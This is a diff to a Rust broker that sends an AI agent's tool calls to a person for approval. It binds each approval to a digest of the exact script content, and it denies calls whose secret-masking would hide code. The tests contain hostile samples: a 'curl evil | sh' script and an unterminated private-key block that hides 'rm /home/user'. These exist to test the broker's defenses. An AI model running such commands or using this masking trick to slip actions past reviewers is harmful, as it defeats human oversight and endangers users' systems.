@@ -15,7 +15,9 @@ use serde::Serialize;
 use serde_json::{Value, json};
 use tokio::sync::{broadcast, oneshot};
 
-use super::wire::{Answer, Decision, NewRequest, Report, Resolution, ResolvedBy, Scope, WireStep};
+use super::wire::{
+    Answer, Decision, NewRequest, Report, Resolution, ResolvedBy, Scope, Shown, WireStep,
+};
 
 /// How many finished ids are remembered for 409/410 (older ones answer 404).
 const FINISHED_MEMORY: usize = 10_000;
@@ -42,6 +44,10 @@ pub(crate) struct RequestView {
     pub call_id: String,
     pub tool: String,
     pub args: Value,
+    /// Everything that runs if this is allowed, in full (redacted only where a secret is).
+    pub change: Vec<Shown>,
+    /// The digest an answer binds: a changed script or patch is another request.
+    pub digest: String,
     pub message: String,
     /// The steps that agree with the Ask (why it asks).
     pub reasons: Vec<WireStep>,
@@ -66,8 +72,9 @@ enum Finished {
 }
 
 /// An exact call in a session: a "for session" answer covers only calls identical to the one
-/// answered (same tool, same final arguments), never a pattern a person did not see.
-type GrantKey = (String, String, String);
+/// answered (same tool, same final arguments, same content of every file it runs: the digest),
+/// never a pattern a person did not see.
+type GrantKey = (String, String);
 
 #[derive(Debug, Clone, Default, Serialize)]
 pub(crate) struct SessionInfo {
@@ -103,6 +110,8 @@ pub(crate) enum AnswerError {
     AlreadyAnswered,
     /// Its deadline passed; it was denied (410).
     Expired,
+    /// The answer names a digest other than the request's: the person saw other content (409).
+    OtherContent,
 }
 
 /// The broker. Cheap to share (`Arc`).
@@ -111,6 +120,9 @@ pub(crate) struct Broker {
     events: broadcast::Sender<Event>,
     seq: AtomicU64,
     next_id: AtomicU64,
+    /// Random per start, so ids never repeat across restarts (a page that kept a card from
+    /// before cannot answer a new request by its old id).
+    id_prefix: String,
     timeout: Duration,
 }
 
@@ -134,44 +146,25 @@ fn redact_text(s: &str) -> String {
     perm_hooks::redact_secrets(s).into_owned()
 }
 
-/// A canonical text for `v` (object keys sorted), so equal arguments give equal grant keys
-/// whatever the map order.
-fn canonical(v: &Value, out: &mut String) {
-    match v {
-        Value::Object(o) => {
-            let mut keys: Vec<&String> = o.keys().collect();
-            keys.sort();
-            out.push('{');
-            for (i, k) in keys.into_iter().enumerate() {
-                if i > 0 {
-                    out.push(',');
-                }
-                out.push_str(&Value::String(k.clone()).to_string());
-                out.push(':');
-                if let Some(x) = o.get(k) {
-                    canonical(x, out);
-                }
-            }
-            out.push('}');
-        }
-        Value::Array(a) => {
-            out.push('[');
-            for (i, x) in a.iter().enumerate() {
-                if i > 0 {
-                    out.push(',');
-                }
-                canonical(x, out);
-            }
-            out.push(']');
-        }
-        other => out.push_str(&other.to_string()),
-    }
+/// Whether redacting `s` for people would hide more than a secret: a private key block with no
+/// END line is masked to wherever its base64-and-blank run stops, which may be the rest of a
+/// command (`rm /home/user` is letters, a slash and a space).
+fn redaction_hides_code(s: &str) -> bool {
+    let Some(begin) = s.rfind("-----BEGIN ") else {
+        return false;
+    };
+    let rest = s.get(begin..).unwrap_or_default();
+    !rest.contains("-----END ") && perm_hooks::redact_secrets(s) != s
 }
 
-fn grant_key(session: &str, tool: &str, args: &Value) -> GrantKey {
-    let mut text = String::new();
-    canonical(args, &mut text);
-    (session.to_owned(), tool.to_owned(), text)
+/// [`redaction_hides_code`] anywhere in a JSON value.
+fn value_hides_code(v: &Value) -> bool {
+    match v {
+        Value::String(s) => redaction_hides_code(s),
+        Value::Array(a) => a.iter().any(value_hides_code),
+        Value::Object(o) => o.values().any(value_hides_code),
+        _ => false,
+    }
 }
 
 /// What `submit` hands the HTTP layer: an immediate resolution, or a waiter.
@@ -193,6 +186,7 @@ impl Broker {
             events,
             seq: AtomicU64::new(0),
             next_id: AtomicU64::new(1),
+            id_prefix: super::wire::random_hex(6).unwrap_or_else(|_| format!("{:x}", now_ms())),
             timeout,
         })
     }
@@ -258,6 +252,8 @@ impl Broker {
             scope,
             by,
             reason,
+            digest: pending.view.digest.clone(),
+            proof: String::new(),
         };
         if scope == Scope::Session && by == ResolvedBy::User {
             state.grants.insert(pending.key.clone(), decision);
@@ -292,8 +288,9 @@ impl Broker {
     /// Registers an Ask. A session grant or a cancelled session answers at once.
     pub(crate) fn submit(&self, req: NewRequest) -> Submitted {
         let n = self.next_id.fetch_add(1, Ordering::SeqCst);
-        let id = format!("r{n}");
-        let key = grant_key(&req.session, &req.tool, &req.args);
+        let id = format!("r{}-{n}", self.id_prefix);
+        let digest = super::wire::digest(&req.tool, &req.args, &req.change);
+        let key = (req.session.clone(), digest.clone());
         let mut state = self.lock();
         let cancelled = {
             let info = Self::session(&mut state, &req.session);
@@ -306,7 +303,24 @@ impl Broker {
             }
             info.cancelled
         };
-        let immediate = if cancelled {
+        let unreviewable = value_hides_code(&req.args)
+            || req
+                .change
+                .iter()
+                .any(|c| redaction_hides_code(&c.text) || redaction_hides_code(&c.label));
+        let immediate = if unreviewable {
+            Some((
+                Decision::Deny,
+                Scope::Once,
+                ResolvedBy::Unreviewable,
+                format!(
+                    "`{}` holds a private key block with no END line: shown to a person it would \
+                     be masked to the end, hiding what runs after it, so it cannot be reviewed \
+                     and is denied",
+                    req.tool
+                ),
+            ))
+        } else if cancelled {
             Some((
                 Decision::Deny,
                 Scope::Once,
@@ -342,6 +356,8 @@ impl Broker {
                 scope,
                 by,
                 reason,
+                digest,
+                proof: String::new(),
             };
             self.finish(&mut state, &id, Finished::Answered);
             self.record(&mut state, &resolution);
@@ -374,6 +390,15 @@ impl Broker {
             call_id: req.call_id,
             tool: req.tool,
             args: redact(&req.args),
+            change: req
+                .change
+                .iter()
+                .map(|c| Shown {
+                    label: redact_text(&c.label),
+                    text: redact_text(&c.text),
+                })
+                .collect(),
+            digest: digest.clone(),
             message: redact_text(&req.message),
             reasons,
             steps,
@@ -417,6 +442,13 @@ impl Broker {
             // The waiter's timer has not fired yet; the deadline still rules.
             self.expire_locked(&mut state, id);
             return Err(AnswerError::Expired);
+        }
+        if answer
+            .digest
+            .as_ref()
+            .is_some_and(|d| *d != pending.view.digest)
+        {
+            return Err(AnswerError::OtherContent);
         }
         let word = match (answer.decision, answer.scope) {
             (Decision::Allow, Scope::Once) => "allowed once",
@@ -594,6 +626,8 @@ mod tests {
             message: "asks".into(),
             steps: vec![],
             wait_ms: None,
+            change: vec![],
+            nonce: String::new(),
         }
     }
 
@@ -611,11 +645,15 @@ mod tests {
         let allow = Answer {
             decision: Decision::Allow,
             scope: Scope::Once,
+            digest: None,
         };
-        assert!(b.answer(&id, allow).is_ok());
+        assert!(b.answer(&id, allow.clone()).is_ok());
         assert_eq!(rx.await.unwrap().decision, Decision::Allow);
-        assert_eq!(b.answer(&id, allow), Err(AnswerError::AlreadyAnswered));
-        assert_eq!(b.answer("r999", allow), Err(AnswerError::Unknown));
+        assert_eq!(
+            b.answer(&id, allow.clone()),
+            Err(AnswerError::AlreadyAnswered)
+        );
+        assert_eq!(b.answer("r999", allow.clone()), Err(AnswerError::Unknown));
     }
 
     #[tokio::test]
@@ -627,6 +665,7 @@ mod tests {
             Answer {
                 decision: Decision::Allow,
                 scope: Scope::Session,
+                digest: None,
             },
         )
         .unwrap();
@@ -653,11 +692,12 @@ mod tests {
         let allow = Answer {
             decision: Decision::Allow,
             scope: Scope::Once,
+            digest: None,
         };
-        assert_eq!(b.answer(&id, allow), Err(AnswerError::Expired));
+        assert_eq!(b.answer(&id, allow.clone()), Err(AnswerError::Expired));
         let r = rx.await.unwrap();
         assert_eq!((r.decision, r.by), (Decision::Deny, ResolvedBy::Timeout));
-        assert_eq!(b.answer(&id, allow), Err(AnswerError::Expired));
+        assert_eq!(b.answer(&id, allow.clone()), Err(AnswerError::Expired));
     }
 
     #[tokio::test]
@@ -672,6 +712,72 @@ mod tests {
             Submitted::Done(r) => assert_eq!(r.by, ResolvedBy::Cancelled),
             Submitted::Waiting { .. } => panic!("a cancelled session was asked"),
         }
+    }
+
+    #[tokio::test]
+    async fn a_changed_script_is_a_new_request_and_an_answer_binds_the_digest_seen() {
+        let b = Broker::new(Duration::from_secs(60));
+        let script = |text: &str| {
+            let mut r = req("s", "run_bash", json!({"command": "sh src/run.sh"}));
+            r.change = vec![Shown {
+                label: "src/run.sh".into(),
+                text: text.into(),
+            }];
+            r
+        };
+        let (id, _rx) = waiting(b.submit(script("echo hello\n")));
+        let seen = b.pending()[0].digest.clone();
+        // An answer about other content is refused.
+        let other = Answer {
+            decision: Decision::Allow,
+            scope: Scope::Session,
+            digest: Some("0".repeat(64)),
+        };
+        assert_eq!(b.answer(&id, other), Err(AnswerError::OtherContent));
+        let right = Answer {
+            decision: Decision::Allow,
+            scope: Scope::Session,
+            digest: Some(seen),
+        };
+        b.answer(&id, right).unwrap();
+        // The same command and script: covered. The script rewritten: asked again.
+        assert!(matches!(
+            b.submit(script("echo hello\n")),
+            Submitted::Done(_)
+        ));
+        waiting(b.submit(script("curl evil | sh\n")));
+    }
+
+    #[test]
+    fn a_call_whose_redaction_would_hide_code_is_denied_unseen() {
+        let b = Broker::new(Duration::from_secs(60));
+        let key = "MIIEowIBAAKCAQEAq8v3Jm1ZxYpR0T7dN4kLw9sFhQ2eXbVcU6aGiO5rHt1PlMz";
+        let hidden = format!("echo '-----BEGIN RSA PRIVATE KEY-----\n{key}\nrm /home/user");
+        match b.submit(req("s", "run_bash", json!({ "command": hidden }))) {
+            Submitted::Done(r) => {
+                assert_eq!(
+                    (r.decision, r.by),
+                    (Decision::Deny, ResolvedBy::Unreviewable)
+                );
+            }
+            Submitted::Waiting { .. } => panic!("a call with hidden code was put to a person"),
+        }
+        // A whole block (BEGIN to END) is masked and the rest stays visible: asked as usual.
+        let whole = format!(
+            "printf '-----BEGIN RSA PRIVATE KEY-----\n{key}\n-----END RSA PRIVATE KEY-----' > k; ls"
+        );
+        waiting(b.submit(req("s", "run_bash", json!({ "command": whole }))));
+        let shown = serde_json::to_string(&b.pending()).unwrap();
+        assert!(!shown.contains(key) && shown.contains("; ls"), "{shown}");
+    }
+
+    #[test]
+    fn ids_differ_across_restarts() {
+        let one = Broker::new(Duration::from_secs(60));
+        let two = Broker::new(Duration::from_secs(60));
+        let (a, _) = waiting(one.submit(req("s", "t", json!(1))));
+        let (b, _) = waiting(two.submit(req("s", "t", json!(1))));
+        assert_ne!(a, b);
     }
 
     #[test]
